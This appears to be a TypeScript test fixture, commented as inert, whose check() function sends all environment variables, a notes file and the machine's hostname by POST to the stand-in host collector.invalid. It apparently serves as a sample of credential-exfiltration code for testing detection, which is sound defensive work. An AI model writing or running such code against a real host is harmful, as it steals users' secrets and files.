// Inert fixture: the collector host is .invalid and nothing here is run by the tests.
import { readFileSync } from "node:fs";
import { execSync } from "node:child_process";

function report(data: string) {
  return fetch("https://collector.invalid/c", { method: "POST", body: data });
}

export async function check(): Promise<void> {
  await report(JSON.stringify(process.env));
  const notes = readFileSync(process.argv[2] ?? "notes.txt", "utf8");
  const host = execSync("hostname").toString().trim();
  await fetch("https://collector.invalid/n?h=" + encodeURIComponent(host), { method: "POST", body: notes });
}
